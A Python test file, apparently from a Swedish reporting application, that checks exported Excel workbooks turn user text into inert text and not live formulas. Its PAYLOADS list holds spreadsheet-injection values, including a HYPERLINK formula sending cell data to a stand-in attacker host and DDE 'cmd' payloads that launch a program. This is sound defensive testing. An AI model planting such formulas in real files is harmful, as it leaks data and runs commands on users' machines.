"""No exported workbook holds a live formula made from user text. Every free-text field of a
report and every text of a compilation (signers, file names, reasons, population source) is set
to formula and error payloads; each export is then opened and every formula cell checked: only
the application's own payment formulas (sheet Utbetalning) may be formulas, and none of them
contains a payload. Without xlsx_text.neutralize_formulas the payloads are live formulas."""

from __future__ import annotations

import dataclasses
import zipfile
from datetime import date
from pathlib import Path

import pytest

from desktop_app.domain.compilation import compile_figures, payment_split
from desktop_app.domain.finance import CostItem
from desktop_app.domain.reference import load_reference
from desktop_app.domain.rules import evaluate_criteria, validate
from desktop_app.domain.template import load_template
from desktop_app.exchange.compilation_model import (
    CompilationDocument,
    FileLine,
    PopulationLine,
    RegionLine,
)
from desktop_app.exchange.compilation_xlsx import (
    PAYMENT_FORMULA_COLUMNS,
    PAYMENTS,
    write_compilation_workbook,
)
from desktop_app.exchange.excel import write_import_workbook
from desktop_app.exchange.report_xlsx import write_report_workbook
from tests.helpers.factories import complete_report

TPL = load_template("svf-2024")
TODAY = date(2024, 9, 1)
PAYLOADS = [
    '=HYPERLINK("http://angripare.example/?x="&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "#REF!",
    "=1+1",
]


def _hostile_report(payload: str):
    report = complete_report(TPL)
    report.contact.name = payload
    report.contact.title = payload
    fin = report.finance
    text_fields = [f.name for f in dataclasses.fields(fin) if f.type in ("str", str)]
    report.finance = dataclasses.replace(
        fin, **{name: payload for name in text_fields}, costs=[CostItem(payload, 1000)]
    )
    report.answers = {q.id: payload for q in TPL.questions if q.type != "yes_no"} | {
        q.id: "ja" for q in TPL.questions if q.type == "yes_no"
    }
    return report


def _compilation(payload: str, report) -> CompilationDocument:
    ref = load_reference()
    codes = ["25"]
    pops = {r.code: r.population for r in ref.regions}
    line = RegionLine(
        code="25",
        name=ref.region("25").name,
        status="accepted",
        status_label="Godkänd",
        version=1,
        file=payload,
        received="2024-09-01 10:00",
        submitted="2024-09-01",
        certification=payload,
        signers=f"{payload} (intygande), {payload} (underskrift)",
        criteria=evaluate_criteria(report, TPL, TODAY),
        criteria_met=True,
        reason=payload,
    )
    return CompilationDocument(
        tpl=TPL,
        scope_id="norr",
        scope_name="RCC Norr",
        created=TODAY,
        compilation=compile_figures(TPL, codes, {"25": report.figures}),
        region_names={r.code: r.name for r in ref.regions},
        regions=[line],
        files=[FileLine(payload, payload, 1, payload, payload, payload)],
        payments=payment_split(TPL, pops, {c: None for c in pops} | {"25": True}),
        populations=[
            PopulationLine(r.code, r.name, r.population, r.population_date, payload, True)
            for r in ref.regions
        ],
    )


def _formula_cells(path: Path) -> list[tuple[str, str, str]]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [
        (ws.title, c.coordinate, str(c.value))
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type in ("f", "e")
    ]


def _texts(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "".join(zf.read(n).decode("utf-8") for n in zf.namelist() if n.endswith(".xml"))


def _exports(tmp_path: Path, payload: str) -> list[Path]:
    report = _hostile_report(payload)
    out = []
    p = tmp_path / "rapport.xlsx"
    write_report_workbook(
        p,
        report,
        TPL,
        "Region Norrbotten",
        "Utkast",
        "0" * 64,
        evaluate_criteria(report, TPL, TODAY),
        validate(report, TPL),
    )
    out.append(p)
    p = tmp_path / "sammanstallning.xlsx"
    write_compilation_workbook(p, _compilation(payload, report))
    out.append(p)
    p = tmp_path / "mall.xlsx"
    write_import_workbook(p, TPL, load_reference().region("25"), {("aml", "expected", "man"): 3})
    out.append(p)
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_export_has_a_formula_made_from_user_text(tmp_path, payload):
    for path in _exports(tmp_path, payload):
        for sheet, coord, value in _formula_cells(path):
            column = "".join(ch for ch in coord if ch.isalpha())
            assert sheet == PAYMENTS and column in PAYMENT_FORMULA_COLUMNS, (path, coord, value)
            assert "HYPERLINK" not in value and "cmd" not in value and value != payload
    report_xml = _texts(tmp_path / "rapport.xlsx")
    compilation_xml = _texts(tmp_path / "sammanstallning.xlsx")
    shown = payload.replace("&", "&amp;").replace('"', "&quot;").replace("'", "&apos;")
    for xml in (report_xml, compilation_xml):
        assert payload.replace("&", "&amp;") in xml or shown in xml  # kept, as text


def test_own_payment_formulas_stay_formulas(tmp_path):
    paths = _exports(tmp_path, "vanlig text")
    cells = _formula_cells(paths[1])
    assert any(v.startswith("=SUM(") for _, _, v in cells)
    assert any("$B$1" in v for _, _, v in cells)
